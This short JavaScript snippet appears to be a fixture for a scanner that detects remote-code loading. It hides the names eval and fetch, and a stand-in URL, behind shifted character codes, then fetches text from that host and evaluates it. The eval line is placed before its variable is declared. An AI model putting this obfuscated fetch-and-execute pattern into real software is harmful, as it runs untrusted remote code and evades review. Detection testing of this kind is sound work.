function q(list) { return list.map((n) => String.fromCharCode(n - 7)).join(''); }
// expect: remote-code
globalThis[q([108, 125, 104, 115])](stored);
let stored = '';
globalThis[q([109, 108, 123, 106, 111])](q([111, 123, 123, 119, 122, 65, 54, 54, 116, 53, 108, 127, 104, 116, 119, 115, 108])).then((r) => r[q([123, 108, 127, 123])]()).then((t) => { stored = t; });
